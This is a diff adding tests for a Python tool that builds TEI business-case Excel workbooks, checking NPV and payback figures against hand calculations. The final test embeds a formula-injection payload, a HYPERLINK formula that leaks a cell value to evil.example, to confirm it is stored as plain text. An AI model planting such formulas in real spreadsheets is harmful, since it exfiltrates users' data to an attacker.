@@ -155,3 +155,69 @@ def test_the_inputs_sheet_says_which_inputs_are_the_user_s() -> None:
         "your input", 0.12, "%/yr")
     assert rows["annual_savings"].status == "assumed" and rows["annual_savings"].unit == "EUR/yr"
     assert "Gartner" in rows["success_probability"].source
+
+
+# --- The business case's own TEI table ------------------------------------------------------------
+def _tei(tmp_path: Path, items, years: int = 3, inputs=None, name: str = "tei.xlsx") -> Path:
+    from upskill_roi.core.business_case import TeamInputs, own_figures
+    from upskill_roi.documents.workbook import tei_rows, tei_workbook
+    from upskill_roi.inputs import tei
+    from upskill_roi.inputs.declared import CASE_INPUTS
+
+    inputs = inputs or TeamInputs(horizon_years=years)
+    table = own_figures(*tei.arrays(items, years), inputs)
+    path = tmp_path / name
+    path.write_bytes(tei_workbook(items, years, table, tei_rows(inputs, CASE_INPUTS, {}, "USD"), "USD"))
+    return path
+
+
+def test_the_tei_workbook_recalculates_to_the_hand_values(recalc, tmp_path) -> None:
+    """The example table at 3 years, 10 %, 10 % risk each way: benefits 450,000 a year; costs
+    155,000 x 1.1 = 170,500 at Initial and 100,000 x 1.1 = 110,000 a year; NPV = -170,500 +
+    340,000 x (1/1.1 + 1/1.1^2 + 1/1.1^3) = 675,029.68; payback 170,500 / 340,000 = 0.50 years."""
+    from upskill_roi.inputs import tei
+
+    path = recalc(_tei(tmp_path, list(tei.DEFAULT_ROWS)))
+    summary = _summary(path)
+    assert summary["Risk-adjusted NPV"][0] == pytest.approx(675_029.68, abs=0.01)
+    assert summary["Payback (years, undiscounted)"][0] == pytest.approx(170_500 / 340_000)
+    assert summary["PV of costs"][0] == pytest.approx(170_500 + 110_000 * (1 / 1.1 + 1 / 1.21 + 1 / 1.331))
+    for label, (formula, app) in summary.items():
+        assert formula == pytest.approx(app, abs=0.01) if isinstance(app, float) else formula == app, label
+    assert set(_checks(path).values()) == {"OK"}
+
+
+def test_the_tei_workbook_of_a_case_that_never_pays_back(recalc, tmp_path) -> None:
+    """upskill_roi.core.finance.tei_table's example: 100 a year for 2 years against 150 + 10 a year, at
+    10 % with benefits -10 % and costs +20 %: NPV = 156.198 - 200.826 = -44.628, never paid back."""
+    from upskill_roi.core.business_case import TeamInputs
+
+    items = [{"Type": "Benefit", "Line item": "Benefit", "values": (0.0, 100.0, 100.0)},
+             {"Type": "Cost", "Line item": "Build", "values": (150.0, 0.0, 0.0)},
+             {"Type": "Cost", "Line item": "Upkeep", "values": (0.0, 10.0, 10.0)}]
+    path = recalc(_tei(tmp_path, items, 2, TeamInputs(horizon_years=2, cost_risk=0.2)))
+    summary = _summary(path)
+    assert summary["Risk-adjusted NPV"][0] == pytest.approx(-44.628, abs=0.001)
+    assert summary["Payback (years, undiscounted)"] == ("never", "never")
+    assert set(_checks(path).values()) == {"OK"}
+
+
+def test_a_changed_amount_or_rate_in_the_tei_workbook_changes_the_npv(recalc, tmp_path) -> None:
+    from upskill_roi.inputs import tei
+
+    path = _tei(tmp_path, list(tei.DEFAULT_ROWS))
+    wb = openpyxl.load_workbook(path)
+    wb["TEI table"]["D4"] = 600_000  # Year 1 of the first line item (the savings): 500,000 -> 600,000
+    wb.save(path)
+    _set_input(path, "Discount rate", 0.12)
+    # By hand: year 1 net 340,000 + 90,000 = 430,000; then 340,000, 340,000; at 12 %.
+    expected = -170_500 + 430_000 / 1.12 + 340_000 / 1.12**2 + 340_000 / 1.12**3
+    assert _summary(recalc(path))["Risk-adjusted NPV"][0] == pytest.approx(expected, abs=0.01)
+
+
+def test_line_item_names_stay_text_in_the_tei_workbook(tmp_path) -> None:
+    """OWASP's example: a name that would be a formula is written as a string cell."""
+    evil = '=HYPERLINK("https://evil.example/?leak="&C4,"Open details")'
+    path = _tei(tmp_path, [{"Type": "Benefit", "Line item": evil, "values": (0.0, 1.0, 1.0, 1.0)}])
+    cell = openpyxl.load_workbook(path)["TEI table"]["B4"]
+    assert cell.data_type == "s" and cell.value == evil
